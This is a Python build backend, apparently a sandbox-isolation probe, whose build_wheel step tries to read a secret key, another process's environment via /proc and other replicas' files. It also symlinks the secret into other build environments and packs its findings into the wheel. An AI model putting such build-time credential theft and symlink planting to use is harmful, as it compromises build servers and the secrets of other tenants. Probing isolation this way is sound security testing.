"""Builds a package, and puts into it what it could see and change while it was built."""

import os
import zipfile


def attempt(work):
    try:
        return str(work())
    except Exception as error:
        return f"refused: {type(error).__name__}"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    data = os.environ["NOSY_DATA"]
    said = {
        "key": attempt(lambda: open(f"{data}/secret.key").read()),
        "other": attempt(lambda: os.listdir(f"{data}/replicas")),
        "server": attempt(lambda: open(f"/proc/{os.environ['NOSY_SERVER']}/environ").read()),
        "pushed": attempt(lambda: open(f"{data}/artifacts/art1/server.py", "a")),
    }
    # What the server writes when the build is done would go where this leads.
    for env in os.listdir(f"{data}/envs"):
        if "." not in env:
            os.symlink(f"{data}/secret.key", f"{data}/envs/{env}/.complete")
            said["planted"] = "yes"
    name = "nosy-1-py3-none-any.whl"
    info = "nosy-1.dist-info"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        wheel.writestr("nosy.py", f"said = {said!r}\n")
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: nosy\nVersion: 1\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: nosy\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/RECORD", "")
    return name
